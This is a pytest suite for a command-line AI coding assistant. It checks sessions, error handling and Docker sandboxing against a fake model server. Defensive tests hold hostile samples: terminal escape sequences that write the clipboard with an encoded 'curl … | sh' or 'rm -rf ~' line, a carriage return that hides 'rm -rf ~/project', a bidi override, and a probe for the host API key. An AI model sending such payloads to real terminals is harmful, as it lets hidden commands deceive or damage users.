"""The `assistant` command, run as a real subprocess (the console script in the venv)."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.fakes.anthropic_server import AnthropicFake, anthropic_fake, text, tool_use


def assistant(args: list[str], cwd: Path, env: dict[str, str] | None = None, timeout: float = 300):
    full_env = {k: v for k, v in os.environ.items() if k != "ANTHROPIC_API_KEY"}
    full_env.update(env or {})
    return subprocess.run(
        [sys.executable, "-m", "assistant.cli", *args],
        cwd=cwd,
        env=full_env,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


@pytest.fixture(autouse=True)
def isolated_dirs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ASSISTANT_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("ASSISTANT_CONFIG", str(tmp_path / "config.toml"))


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    d = tmp_path / "ws"
    d.mkdir()
    (d / "notes.txt").write_text("the secret word is pumpkin\n")
    return d


@pytest.fixture
def fake() -> Iterator[AnthropicFake]:
    with anthropic_fake() as f:
        yield f


def claude_args(fake: AnthropicFake) -> list[str]:
    return ["--model", "anthropic:claude-haiku-4-5", "--base-url", fake.base_url]


def test_version(ws: Path) -> None:
    out = assistant(["--version"], ws)
    assert out.returncode == 0 and out.stdout.startswith("assistant ")


def test_options_without_a_command_are_chats(ws: Path) -> None:
    """`assistant --model X`, as the README and export's own message say, used to fail
    with "No such option: --model"."""
    for model in (["--model", "openai:gpt-4o"], ["-m", "openai:gpt-4o"]):
        out = assistant([*model, "--base-url", "notaurl", "--plain"], ws, {"OPENAI_API_KEY": "k"})
        assert out.returncode == 1, out.stderr
        assert "The base URL 'notaurl' is not an http:// or https:// address" in out.stderr
    misplaced = assistant(["--model", "base", "run", "-p", "hi"], ws)
    assert misplaced.returncode == 2
    assert "options go after the command: assistant run --model base -p hi" in misplaced.stderr
    top = assistant(["--help"], ws)
    assert top.returncode == 0 and "Commands" in top.stdout and "--plain" not in top.stdout


def test_headless_run_prints_the_final_answer(ws: Path, fake: AnthropicFake) -> None:
    fake.script(tool_use("read_file", {"path": "notes.txt"}), text("The word is pumpkin."))
    out = assistant(
        ["run", "-p", "What is the secret word?", *claude_args(fake)],
        ws,
        {"ANTHROPIC_API_KEY": "k"},
    )
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "The word is pumpkin."
    sent = fake.message_requests[1].body["messages"][-1]["content"][0]
    assert "pumpkin" in json.dumps(sent)


def test_headless_json_events_and_sessions(ws: Path, fake: AnthropicFake) -> None:
    fake.script(tool_use("read_file", {"path": "notes.txt"}), text("pumpkin"))
    out = assistant(
        ["run", "-p", "word?", "--json", *claude_args(fake)], ws, {"ANTHROPIC_API_KEY": "k"}
    )
    assert out.returncode == 0, out.stderr
    events = [json.loads(line) for line in out.stdout.splitlines()]
    types = [e["type"] for e in events]
    for kind in ("text", "tool_call", "tool_result", "usage", "turn_end"):
        assert kind in types
    assert events[-1] == {"type": "turn_end", "reason": "done", "final_text": "pumpkin", "steps": 2}
    listed = assistant(["sessions", "list"], ws)
    assert listed.returncode == 0 and "word?" in listed.stdout
    session_id = listed.stdout.split()[0]
    exported = assistant(["sessions", "export", session_id, "--format", "jsonl"], ws)
    roles = [json.loads(line)["role"] for line in exported.stdout.splitlines()]
    assert roles == ["system", "user", "assistant", "tool", "assistant"]

    fake.script(text("still pumpkin"))
    again = assistant(
        ["run", "-p", "and now?", "--continue", *claude_args(fake)], ws, {"ANTHROPIC_API_KEY": "k"}
    )
    assert again.returncode == 0, again.stderr
    sent = [m["role"] for m in fake.message_requests[-1].body["messages"]]
    assert sent == ["user", "assistant", "user", "assistant", "user"], "history was resumed"

    log = next((Path(os.environ["ASSISTANT_DATA_DIR"]) / "sessions").rglob(f"{session_id}*"))
    kept = log.read_bytes()
    fake.script(text("pumpkin, again"))
    untold = assistant(
        ["run", "-p", "once more?", "--resume", session_id, "--no-session", *claude_args(fake)],
        ws,
        {"ANTHROPIC_API_KEY": "k"},
    )
    assert untold.returncode == 0, untold.stderr
    assert len(fake.message_requests[-1].body["messages"]) == 7, "history was resumed"
    assert log.read_bytes() == kept, "--no-session wrote nothing to the session it resumed"

    requests = len(fake.message_requests)
    broke = assistant(
        ["run", "-p", "hi", "--max-cost", "0", *claude_args(fake)], ws, {"ANTHROPIC_API_KEY": "k"}
    )
    assert broke.returncode == 3 and "max cost" in broke.stderr, broke.stderr
    assert len(fake.message_requests) == requests, "a zero budget pays for no call"


def assistant_on_a_terminal(args: list[str], cwd: Path, env: dict[str, str]) -> str:
    """Run the command with stdout and stderr on a pseudo-terminal; what it wrote there."""
    main, child = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "assistant.cli", *args],
        cwd=cwd,
        env={**os.environ, **env},
        stdin=subprocess.DEVNULL,
        stdout=child,
        stderr=child,
    )
    os.close(child)
    chunks: list[bytes] = []
    while True:
        try:
            chunk = os.read(main, 4096)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(main)
    assert proc.wait(timeout=300) == 0
    return b"".join(chunks).decode()


def test_escape_sequences_from_the_model_reach_a_program_but_not_a_terminal(
    ws: Path, fake: AnthropicFake
) -> None:
    clipboard = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: write the clipboard
    answer = f"Done.{clipboard}\x1b[8mhidden\x1b[0m \x9b2J"  # the last: C1 CSI, clear screen
    env = {"ANTHROPIC_API_KEY": "k"}
    fake.script(text(answer))
    piped = assistant(["run", "-p", "hi", *claude_args(fake)], ws, env)
    assert piped.stdout == answer + "\n", "a program reading stdout gets the answer as it is"

    fake.script(text(answer))
    shown = assistant_on_a_terminal(["run", "-p", "hi", *claude_args(fake)], ws, env)
    assert "\x1b" not in shown and "Done.␛]52;c;" in shown and "␛[8mhidden" in shown
    assert "\x9b" not in shown

    fake.script(text(answer))
    events = assistant_on_a_terminal(["run", "-p", "hi", "--json", *claude_args(fake)], ws, env)
    assert "\x1b" not in events and "\\u001b]52" in events
    assert "\x9b" not in events and "\\u009b2J" in events

    session_id = assistant(["sessions", "list"], ws).stdout.split()[0]
    exported = assistant_on_a_terminal(["sessions", "show", session_id], ws, {})
    assert "\x1b" not in exported and "Done.␛]52" in exported


def test_undo_shows_a_hostile_file_name_instead_of_sending_it_to_the_terminal(ws: Path) -> None:
    from assistant.agent.session import SessionStore
    from assistant.tools.undo import UndoJournal

    log = SessionStore().create(ws.resolve(), "m")
    # OSC 52 writes the clipboard, OSC 0 retitles the window, \r writes over the line.
    name = "a\x1b]52;c;cm0gLXJmIH4K\x07\x1b]0;PWNED\x07\rok.txt"
    (ws / name).write_text("new")
    journal = UndoJournal(log.path.with_suffix(".undo.jsonl"))
    journal.record(1, ws / name, None, b"new", tool="write_file", display_path=name)

    shown = assistant_on_a_terminal(["undo", "-C", str(ws)], ws, {})
    assert "Deleted a␛]52;c;cm0gLXJmIH4K␇␛]0;PWNED␇␍ok.txt" in shown, repr(shown)
    assert "\x1b" not in shown and "\x07" not in shown
    assert not (ws / name).exists()


def test_a_carriage_return_in_the_answer_is_shown_on_a_terminal(
    ws: Path, fake: AnthropicFake
) -> None:
    answer = "rm -rf ~/project\rAll tests pass."  # on a terminal: only "All tests pass."
    env = {"ANTHROPIC_API_KEY": "k"}
    fake.script(text(answer))
    shown = assistant_on_a_terminal(["run", "-p", "hi", *claude_args(fake)], ws, env)
    assert "rm -rf ~/project␍All tests pass." in shown, repr(shown)
    assert "\r" not in shown.replace("\r\n", ""), "the terminal's own line ends only"


def test_an_answer_keeps_emoji_joiners_on_a_terminal_and_shows_a_bidi_override(
    ws: Path, fake: AnthropicFake
) -> None:
    """Prose keeps the zero-width joiner (👨‍👩‍👧 is three emoji joined); an override that
    would reorder what follows is shown."""
    family = "👨\u200d👩\u200d👧"
    fake.script(text(f"{family} done \u202eeno"))
    shown = assistant_on_a_terminal(
        ["run", "-p", "hi", *claude_args(fake)], ws, {"ANTHROPIC_API_KEY": "k"}
    )
    assert f"{family} done ⟨U+202E⟩eno" in shown, repr(shown)


def test_mutating_tool_is_denied_headless_and_limit_exit_code(
    ws: Path, fake: AnthropicFake
) -> None:
    fake.script(*[tool_use("write_file", {"path": "x.txt", "content": "x"}) for _ in range(3)])
    out = assistant(
        ["run", "-p", "write x", "--max-steps", "2", *claude_args(fake)],
        ws,
        {"ANTHROPIC_API_KEY": "k"},
    )
    assert out.returncode == 3
    assert "max steps" in out.stderr
    assert not (ws / "x.txt").exists()
    denied = fake.message_requests[1].body["messages"][-1]["content"][0]
    assert "--approve" in json.dumps(denied)


def test_missing_api_key_is_one_clear_sentence(ws: Path) -> None:
    out = assistant(["run", "-p", "hi", "--model", "anthropic:claude-haiku-4-5"], ws)
    assert out.returncode == 1
    assert "ANTHROPIC_API_KEY is not set" in out.stderr
    assert "Traceback" not in out.stderr


def test_missing_model_file(ws: Path) -> None:
    out = assistant(["run", "-p", "hi", "--model", str(ws / "nope.gguf")], ws)
    assert out.returncode == 1 and "does not exist" in out.stderr and "Traceback" not in out.stderr


@pytest.mark.parametrize("command", [["chat", "--plain"], ["run", "-p", "hi"]])
def test_a_bad_model_or_session_in_chat_and_run_is_one_sentence(ws: Path, command) -> None:
    for extra, says in (
        (["--model", str(ws / "nope.gguf")], "does not exist"),
        (["--resume", "bogus"], "No session 'bogus'"),
    ):
        out = assistant([*command, *extra], ws)
        assert out.returncode == 1 and says in out.stderr, out.stderr
        assert "Traceback" not in out.stderr


@pytest.mark.parametrize(("flag", "value"), [("--approve", "yolo"), ("--sandbox", "podman")])
def test_a_bad_flag_value_is_a_usage_error_not_a_config_one(ws: Path, flag, value) -> None:
    out = assistant(["run", "-p", "hi", flag, value], ws)
    assert out.returncode == 2, out.stderr
    assert f"{flag} '{value}' is not one of" in out.stderr and "config" not in out.stderr


def test_corrupt_model_file(ws: Path) -> None:
    bad = ws / "bad.gguf"
    bad.write_bytes(os.urandom(4096))
    out = assistant(["run", "-p", "hi", "--model", str(bad)], ws)
    assert out.returncode == 1 and "Traceback" not in out.stderr
    assert "bad.gguf" in out.stderr


def test_bad_tool_choice_and_bad_workspace(ws: Path, fake: AnthropicFake) -> None:
    out = assistant(
        ["run", "-p", "hi", "--tool-choice", "teleport", *claude_args(fake)],
        ws,
        {"ANTHROPIC_API_KEY": "k"},
    )
    assert out.returncode == 2 and "teleport" in out.stderr
    out = assistant(["run", "-p", "hi", "-C", str(ws / "missing")], ws)
    assert out.returncode == 1 and "is not a directory" in out.stderr


def test_models_lists_the_bundled_default(ws: Path) -> None:
    (ws / ".assistant.toml").write_text('[aliases]\nsonnet = "anthropic:claude-haiku-4-5"\n')
    assert assistant(["trust"], ws).returncode == 0  # untrusted project files only narrow
    out = assistant(["models"], ws)
    assert out.returncode == 0, out.stderr
    lines = out.stdout.splitlines()
    default = next(i for i, line in enumerate(lines) if line.startswith("*"))
    assert "SmolLM2" in lines[default + 1], "the default's description follows it"
    assert any(line.split()[:1] == ["base"] for line in lines)
    assert any("sonnet" in line for line in lines)


@pytest.mark.slow
def test_headless_run_with_the_real_default_model(ws: Path) -> None:
    out = assistant(
        ["run", "-p", "Read notes.txt", "--tool-choice", "required", "--max-steps", "2", "--json"],
        ws,
    )
    assert out.returncode in (0, 3), out.stderr
    events = [json.loads(line) for line in out.stdout.splitlines()]
    calls = [e for e in events if e["type"] == "tool_call"]
    assert calls and calls[0]["name"] in {"read_file", "list_files", "glob", "grep", "docs"} | {
        "write_file",
        "edit_file",
        "run_shell",
        "run_python",
        "fetch_url",
    }
    assert events[-1]["type"] == "turn_end"


@pytest.mark.docker
@pytest.mark.slow
def test_headless_shell_command_runs_in_the_docker_sandbox(ws: Path, fake: AnthropicFake) -> None:
    fake.script(
        tool_use("run_shell", {"command": "echo made > made.txt && cat /etc/os-release | head -1"}),
        tool_use("run_shell", {"command": "ls /var/run/docker.sock; echo $ANTHROPIC_API_KEY"}),
        text("done"),
    )
    out = assistant(
        ["run", "-p", "make a file", "--approve", "never-ask", "--json", *claude_args(fake)],
        ws,
        {"ANTHROPIC_API_KEY": "sk-host-secret"},
    )
    assert out.returncode == 0, out.stderr
    assert "never-ask" in out.stderr, "the warning is printed"
    results = [json.loads(x) for x in out.stdout.splitlines() if '"tool_result"' in x]
    assert "Debian" in results[0]["output"] and results[0]["exit_code"] == 0
    assert "No such file" in results[1]["output"] and "sk-host-secret" not in results[1]["output"]
    made = ws / "made.txt"
    assert made.read_text() == "made\n"
    assert made.stat().st_uid == os.getuid()
